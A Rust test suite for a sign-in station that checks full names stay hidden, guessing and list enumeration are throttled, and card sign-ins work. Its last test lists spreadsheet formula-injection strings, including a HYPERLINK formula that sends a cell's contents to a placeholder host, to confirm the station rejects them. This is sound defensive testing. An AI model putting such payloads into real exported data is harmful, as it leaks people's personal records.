//! Whatever is typed and pressed on the station, in whatever order, the whole name of nobody else is shown.
#![allow(clippy::unwrap_used, clippy::expect_used)]
#![cfg(not(target_arch = "wasm32"))]

use domain::ids::{PersonId, SessionId};
use domain::names::fold;
use domain::signature::Signature;
use domain::station::{Act, Answer, Finding, Input, PrivateCheck, Screen, Thanked, Visit, list};
use domain::{Dataset, Row, Table};
use proptest::prelude::*;
use proptest::test_runner::TestRunner;
use std::cell::Cell;

/// Names of one to three words, of which no two people share one.
const GIVEN: [&str; 6] = ["Saba", "Юлія", "王芳", "Mohammed", "شیرین", "Ng"];
const FAMILY: [&str; 6] = ["", "Tesfay", "Коваль", "Haile Mariam", "O", "احمدی"];

fn records(people: &[(usize, usize, bool)]) -> (Dataset, Vec<String>) {
    let (mut dataset, mut names) = (Dataset::default(), Vec::new());
    let mut add = |table: Table, cells: &[(&'static str, &str)]| {
        let mut row = Row::default();
        cells.iter().for_each(|(column, text)| row.set(*column, (*text).to_owned()));
        assert!(dataset.put_row(table, &row).is_ok());
    };
    add(Table::Activities, &[("id", "club"), ("name", "Club"), ("type", "group")]);
    add(Table::Sessions, &[("id", "s1"), ("activity_id", "club"), ("date", "2026-03-03"), ("status", "planned")]);
    for (at, (given, family, known_as)) in people.iter().enumerate() {
        let (id, name) = (format!("p{at}"), format!("{} {}", GIVEN[*given], FAMILY[*family]).trim().to_owned());
        let code = format!("{}444", ["CCC", "DDD", "FFF", "HHH", "JJJ", "KKK"][at % 6]);
        let called = if *known_as { GIVEN[*given] } else { "" };
        add(
            Table::People,
            &[("id", &id), ("name", &name), ("known_as", called), ("date_of_birth", "1990-04-30"), ("personal_code", &code)],
        );
        add(
            Table::Enrolments,
            &[("id", &id), ("person_id", &id), ("activity_id", "club"), ("enrolled_on", "2026-01-01"), ("status", "enrolled")],
        );
        names.push(fold(&name));
    }
    (dataset, names)
}

/// Every text that stands on the screen.
fn shown(visit: &Visit) -> Vec<String> {
    match visit.screen() {
        Screen::Find(Some(Finding::Candidates(found))) => found.iter().map(|candidate| candidate.mask.clone()).collect(),
        Screen::Ask(candidate) => vec![candidate.mask.clone()],
        Screen::Thanks(Thanked::Called(called) | Thanked::SignedOut(called)) => vec![called.clone()],
        Screen::Thanks(_) | Screen::Find(_) | Screen::Card | Screen::SeeStaff | Screen::New | Screen::Sign => Vec::new(),
    }
}

fn inputs() -> impl Strategy<Value = Vec<Input>> {
    let words: Vec<&str> = GIVEN.into_iter().chain(FAMILY).collect();
    let typed = (prop::sample::select(words), 0..9usize).prop_map(|(word, letters)| word.chars().take(letters).collect::<String>());
    let input = prop_oneof![
        8 => typed.prop_map(Input::Typed),
        6 => (0..4usize).prop_map(Input::Chosen),
        2 => (0..4usize).prop_map(Input::Leaving),
        3 => (29..32u32).prop_map(|day| Input::Answered(Answer::Birthday(day, 4))),
        2 => any::<bool>().prop_map(|leaving| Input::HasCard { leaving }),
        2 => prop::sample::select(vec!["CCC444", "DDD444", "XXX999"]).prop_map(|code| Input::Shown(code.to_owned())),
        1 => Just(Input::IsNew),
        1 => Just(Input::Named("Newcomer".to_owned(), PersonId::new("new").unwrap())),
        1 => Just(Input::Unnamed),
        2 => Just(Input::Signed(Signature::Tick)),
        3 => Just(Input::Stored),
        2 => Just(Input::Begun),
    ];
    prop::collection::vec(input, 1..60)
}

#[test]
fn no_sequence_of_actions_shows_the_whole_name_of_somebody_else() {
    // Each with a given name of their own: what is shown of one person is then nobody else's.
    let given = prop::sample::subsequence((0..GIVEN.len()).collect::<Vec<_>>(), 1..=GIVEN.len());
    let rest = prop::collection::vec((0..FAMILY.len(), any::<bool>()), GIVEN.len());
    let people = (given, rest)
        .prop_map(|(given, rest)| given.into_iter().zip(rest).map(|(one, (two, three))| (one, two, three)).collect::<Vec<_>>());
    let checks = prop::sample::select(vec![PrivateCheck::Nothing, PrivateCheck::DayOfBirth, PrivateCheck::PersonalCode]);
    let config = ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() };
    let seen = Cell::new((0, 0));
    let outcome = TestRunner::new(config).run(&(people, checks, inputs()), |(people, check, inputs)| {
        let (dataset, names) = records(&people);
        let visit = Visit::new(list(&dataset, &SessionId::new("s1").unwrap(), check).ok());
        let mut visit = visit.with_signatures(people.len() % 2 == 0);
        for (at, input) in inputs.into_iter().enumerate() {
            let act = visit.step(input, at as u64 * 1000);
            for text in shown(&visit) {
                prop_assert!(!names.contains(&fold(&text)), "{text} is a whole name");
                seen.set((seen.get().0 + 1, seen.get().1));
            }
            seen.set((seen.get().0, seen.get().1 + usize::from(act.is_some())));
        }
        Ok(())
    });
    outcome.unwrap_or_else(|error| panic!("{error}"));
    let (texts, acts) = seen.get();
    assert!(texts > 100 && acts > 100, "the control: {texts} texts were shown and {acts} acts were made");
}

fn visit(check: PrivateCheck) -> Visit {
    let (dataset, _) = records(&[(0, 1, false), (1, 2, false)]);
    Visit::new(list(&dataset, &SessionId::new("s1").unwrap(), check).ok())
}

#[test]
fn a_wrong_answer_and_an_unknown_name_look_the_same() {
    let mut asked = visit(PrivateCheck::DayOfBirth);
    asked.step(Input::Typed("sab".to_owned()), 0);
    asked.step(Input::Chosen(0), 0);
    assert!(matches!(asked.screen(), Screen::Ask(_)));
    assert_eq!(asked.step(Input::Answered(Answer::Birthday(1, 4)), 0), None);
    assert_eq!(asked.screen(), &Screen::SeeStaff);
    let mut unknown = visit(PrivateCheck::DayOfBirth);
    unknown.step(Input::Typed("nobody".to_owned()), 0);
    assert_eq!(unknown.screen(), &Screen::Find(Some(Finding::Nobody)));
}

#[test]
fn a_card_signs_its_holder_in_and_out_without_a_name_and_another_card_says_nothing() {
    let shown = |visit: &mut Visit, leaving: bool, code: &str, at: u64| {
        visit.step(Input::Begun, at);
        visit.step(Input::HasCard { leaving }, at);
        visit.step(Input::Shown(code.to_owned()), at)
    };
    let (saba, mut visit_by_card) = (PersonId::new("p0").unwrap(), visit(PrivateCheck::PersonalCode));
    assert_eq!(shown(&mut visit_by_card, false, "CCC444", 0), Some(Act::SignIn(saba.clone())));
    visit_by_card.step(Input::Stored, 0);
    assert_eq!(visit_by_card.screen(), &Screen::Thanks(Thanked::Called("Saba".to_owned())));
    assert_eq!(shown(&mut visit_by_card, true, "CCC444", 0), Some(Act::SignOut(saba)));
    visit_by_card.step(Input::Stored, 0);
    assert_eq!(visit_by_card.screen(), &Screen::Thanks(Thanked::SignedOut("Saba".to_owned())));
    assert_eq!(shown(&mut visit_by_card, false, "XXX999", 0), None);
    assert_eq!(visit_by_card.screen(), &Screen::SeeStaff);
    // Where codes are not asked for there is no camera, and no card is anybody's.
    let mut asked = visit(PrivateCheck::DayOfBirth);
    assert_eq!(shown(&mut asked, false, "CCC444", 0), None);
    assert_eq!(asked.screen(), &Screen::Find(None));
}

#[test]
fn whoever_shows_one_wrong_card_after_another_waits_while_the_camera_stays_open() {
    let mut visit = visit(PrivateCheck::PersonalCode);
    for _ in 0..3 {
        visit.step(Input::Begun, 0);
        visit.step(Input::HasCard { leaving: false }, 0);
        visit.step(Input::Shown("XXX999".to_owned()), 0);
    }
    visit.step(Input::Begun, 0);
    visit.step(Input::HasCard { leaving: false }, 0);
    assert_eq!((visit.step(Input::Shown("CCC444".to_owned()), 0), visit.screen()), (None, &Screen::Card));
    let after = visit.wait_ms(0);
    assert!(after > 0);
    assert!(visit.step(Input::Shown("CCC444".to_owned()), after).is_some());
}

#[test]
fn somebody_new_is_found_again_when_they_leave_and_nobody_sees_their_whole_name() {
    let mut visit = visit(PrivateCheck::Nothing);
    let (id, act) = (PersonId::new("new").unwrap(), |visit: &mut Visit, input| visit.step(input, 0));
    act(&mut visit, Input::IsNew);
    assert!(act(&mut visit, Input::Named("Newcomer Tadesse".to_owned(), id.clone())).is_some());
    act(&mut visit, Input::Stored);
    act(&mut visit, Input::Begun);
    act(&mut visit, Input::Typed("newc".to_owned()));
    assert_eq!(shown(&visit), ["Newcomer T."]);
    assert_eq!(act(&mut visit, Input::Leaving(0)), Some(Act::SignOut(id)));
    assert_eq!(visit.more_here(), -1);
}

#[test]
fn guessing_has_to_wait_longer_and_longer() {
    let mut visit = visit(PrivateCheck::DayOfBirth);
    let mut waits = Vec::new();
    for _ in 0..5 {
        visit.step(Input::Begun, 0);
        visit.step(Input::Typed(String::new()), 10_000_000);
        visit.step(Input::Typed("sab".to_owned()), 0);
        let Screen::Find(Some(Finding::Candidates(_))) = visit.screen() else { break };
        visit.step(Input::Chosen(0), 0);
        visit.step(Input::Answered(Answer::Nothing), 0);
        waits.push(visit.wait_ms(0));
    }
    // While the wait runs nobody is shown at all.
    assert_eq!(waits, [0, 0, 2_000]);
    visit.step(Input::Begun, 2_000);
    visit.step(Input::Typed("sab".to_owned()), 2_000);
    assert!(matches!(visit.screen(), Screen::Find(Some(Finding::Candidates(_)))));
}

#[test]
fn somebody_who_types_one_name_after_another_is_slowed_down() {
    let mut visit = visit(PrivateCheck::Nothing);
    for at in 0..40 {
        let typed = if at % 2 == 0 { "sab" } else { "юлі" };
        visit.step(Input::Typed(typed.to_owned()), 0);
    }
    assert_eq!(visit.screen(), &Screen::Find(Some(Finding::TypeMore)));
    assert!(visit.wait_ms(0) > 0);
}

#[test]
fn whoever_comes_twice_is_here_once_and_whoever_leaves_is_not() {
    let mut visit = visit(PrivateCheck::Nothing);
    let mut does = |input: Input| {
        visit.step(Input::Begun, 0);
        visit.step(Input::Typed("sab".to_owned()), 0);
        let act = visit.step(input, 0);
        let more = visit.more_here();
        visit.step(Input::Stored, 0);
        (act.is_some(), more)
    };
    let (comes, leaves) = (Input::Chosen(0), Input::Leaving(0));
    let acts = [comes.clone(), comes.clone(), leaves.clone(), leaves, comes, Input::Unnamed].map(&mut does);
    assert_eq!(acts, [(true, 1), (true, 0), (true, -1), (true, 0), (true, 1), (true, 1)]);
}

#[test]
fn who_signs_out_is_asked_the_private_question_too_and_thanked_for_leaving() {
    let mut visit = visit(PrivateCheck::DayOfBirth);
    visit.step(Input::Typed("sab".to_owned()), 0);
    assert_eq!(visit.step(Input::Leaving(0), 0), None);
    let act = visit.step(Input::Answered(Answer::Birthday(30, 4)), 0);
    assert_eq!(act, Some(Act::SignOut(PersonId::new("p0").unwrap())));
    visit.step(Input::Stored, 0);
    assert_eq!(visit.screen(), &Screen::Thanks(Thanked::SignedOut("Saba".to_owned())));
}

#[test]
fn where_people_sign_nothing_is_stored_before_they_have() {
    let mut visit = visit(PrivateCheck::Nothing).with_signatures(true);
    visit.step(Input::Typed("sab".to_owned()), 0);
    assert_eq!((visit.step(Input::Chosen(0), 0), visit.screen()), (None, &Screen::Sign));
    let act = visit.step(Input::Signed(Signature::Tick), 0);
    assert_eq!((act, visit.signature()), (Some(Act::SignIn(PersonId::new("p0").unwrap())), Some(&Signature::Tick)));
    assert_eq!(visit.screen(), &Screen::Sign, "the thank-you waits until it is stored");
    visit.step(Input::Stored, 0);
    assert_eq!(visit.screen(), &Screen::Thanks(Thanked::Called("Saba".to_owned())));
    // Leaving and being counted need no signature, and none of the person before is left.
    visit.step(Input::Begun, 0);
    assert!(visit.step(Input::Unnamed, 0).is_some() && visit.signature().is_none());
}

#[test]
fn without_its_list_the_station_finds_nobody_and_still_takes_new_people() {
    let mut visit = Visit::new(None);
    visit.step(Input::Typed("sab".to_owned()), 0);
    assert_eq!(visit.screen(), &Screen::Find(None));
    visit.step(Input::IsNew, 0);
    assert!(visit.step(Input::Named("  ".to_owned(), PersonId::new("new").unwrap()), 0).is_none());
    assert!(visit.step(Input::Named(" Saba ".to_owned(), PersonId::new("new").unwrap()), 0).is_some());
    assert_eq!(visit.screen(), &Screen::New, "the thank-you waits until it is stored");
    visit.step(Input::Stored, 0);
    assert_eq!(visit.screen(), &Screen::Thanks(Thanked::Called("Saba".to_owned())));
}

/// A station of forty people of whom no two fit the same letters.
fn station_of_many(check: PrivateCheck) -> (Visit, Vec<String>) {
    let syllables = ["ba", "do", "fi", "gu", "ke", "lo", "mi", "nu", "pa", "ri"];
    let words: Vec<String> =
        (0..40).map(|at| [syllables[at % 10], syllables[(at / 10 + at) % 10], syllables[(at / 10 * 3 + at) % 10], "x"].concat()).collect();
    let mut dataset = Dataset::default();
    let mut add = |table: Table, cells: &[(&'static str, &str)]| {
        let mut row = Row::default();
        cells.iter().for_each(|(column, text)| row.set(*column, (*text).to_owned()));
        assert!(dataset.put_row(table, &row).is_ok());
    };
    add(Table::Activities, &[("id", "club"), ("name", "Club"), ("type", "group")]);
    add(Table::Sessions, &[("id", "s1"), ("activity_id", "club"), ("date", "2026-03-03"), ("status", "planned")]);
    for (at, word) in words.iter().enumerate() {
        let (id, name) = (format!("p{at}"), format!("{word} Family"));
        add(Table::People, &[("id", &id), ("name", &name), ("date_of_birth", "1990-04-30")]);
        add(
            Table::Enrolments,
            &[("id", &id), ("person_id", &id), ("activity_id", "club"), ("enrolled_on", "2026-01-01"), ("status", "enrolled")],
        );
    }
    (Visit::new(list(&dataset, &SessionId::new("s1").unwrap(), check).ok()), words)
}

/// The same people are looked at one after the other, and before each `between` is done: how many of them are shown.
fn read_off(check: PrivateCheck, mut between: impl FnMut(&mut Visit, usize)) -> usize {
    let (mut visit, words) = station_of_many(check);
    let mut seen = std::collections::BTreeSet::new();
    for (at, word) in words.iter().enumerate() {
        between(&mut visit, at);
        visit.step(Input::Begun, 0);
        visit.step(Input::Typed(word.clone()), 0);
        seen.extend(shown(&visit));
    }
    seen.len()
}

fn do_all(visit: &mut Visit, inputs: impl IntoIterator<Item = Input>) {
    inputs.into_iter().for_each(|input| drop(visit.step(input, 0)));
}

#[test]
fn pressing_no_name_or_being_new_lets_nobody_read_the_list_off() {
    for check in [PrivateCheck::Nothing, PrivateCheck::DayOfBirth] {
        let alone = read_off(check, |_, _| {});
        assert!((8..16).contains(&alone), "{alone}");
        assert_eq!(read_off(check, |visit, _| do_all(visit, [Input::Begun, Input::Unnamed, Input::Stored])), alone);
        let made_up = |at: usize, typed: &str| {
            let id = PersonId::new(&format!("new{at}")).unwrap();
            [Input::Begun, Input::IsNew, Input::Named(typed.to_owned(), id), Input::Stored]
        };
        assert_eq!(read_off(check, |visit, at| do_all(visit, made_up(at, "Somebody Else"))), alone);
        // Nor does signing out those who were made up.
        let leaves = read_off(check, |visit, at| {
            do_all(visit, made_up(at, &format!("Qqq{at} Wxw")));
            do_all(
                visit,
                [Input::Begun, Input::Typed(format!("qqq{at}")), Input::Leaving(0), Input::Answered(Answer::Nothing), Input::Stored],
            );
        });
        assert!(leaves <= alone, "{leaves}");
        let wrong = read_off(check, |visit, _| do_all(visit, [Input::Answered(Answer::Birthday(1, 1)), Input::Stored, Input::Begun]));
        assert!(wrong <= alone, "{wrong}");
    }
}

#[test]
fn one_person_who_signs_in_again_and_again_lets_nobody_read_the_list_off() {
    let by = |check| {
        let own = station_of_many(check).1[0].clone();
        read_off(check, |visit, at| {
            for way in [Input::Chosen(0), Input::Leaving(0)].into_iter().filter(|_| at % 4 == 3) {
                do_all(visit, [Input::Begun, Input::Typed(own.clone()), way, Input::Answered(Answer::Birthday(30, 4)), Input::Stored]);
            }
        })
    };
    for (check, most) in [(PrivateCheck::Nothing, 16), (PrivateCheck::DayOfBirth, 32)] {
        assert!(by(check) <= most, "{}", by(check));
    }
}

#[test]
fn whoever_waits_long_enough_looks_again_and_who_answers_rightly_at_once() {
    let (mut visit, words) = station_of_many(PrivateCheck::DayOfBirth);
    let look = |visit: &mut Visit, at: usize, now: u64| {
        visit.step(Input::Begun, now);
        visit.step(Input::Typed(words[at].clone()), now);
        matches!(visit.screen(), Screen::Find(Some(Finding::Candidates(_))))
    };
    let seen = (0..40).filter(|at| look(&mut visit, *at, 0)).count();
    assert!(seen < 40);
    let later = 20 * 60 * 1000;
    assert!((0..8).all(|at| look(&mut visit, at, later)));
    assert_eq!(visit.wait_ms(later), 0);
    visit.step(Input::Chosen(0), later);
    assert!(visit.step(Input::Answered(Answer::Birthday(30, 4)), later).is_some());
    visit.step(Input::Stored, later);
    assert!((8..16).all(|at| look(&mut visit, at, later)));
    assert_eq!(visit.wait_ms(later), 0);
}

#[test]
fn what_a_spreadsheet_would_take_for_a_formula_is_no_name_at_the_station() {
    for typed in
        ["=1+1", " =1", "+44", "-1", "@SUM(A1)", "\tSaba", "＝1", "＋", "－", "＠a", "\u{feff}=1", "=HYPERLINK(\"https://x/?\"&B2)"]
    {
        let mut visit = visit(PrivateCheck::Nothing);
        visit.step(Input::IsNew, 0);
        assert_eq!(visit.step(Input::Named(typed.to_owned(), PersonId::new("new").unwrap()), 0), None, "{typed}");
        assert_eq!(visit.screen(), &Screen::New);
        assert!(visit.step(Input::Named("Saba = Tesfay-Haile".to_owned(), PersonId::new("new").unwrap()), 0).is_some(), "the control");
    }
}
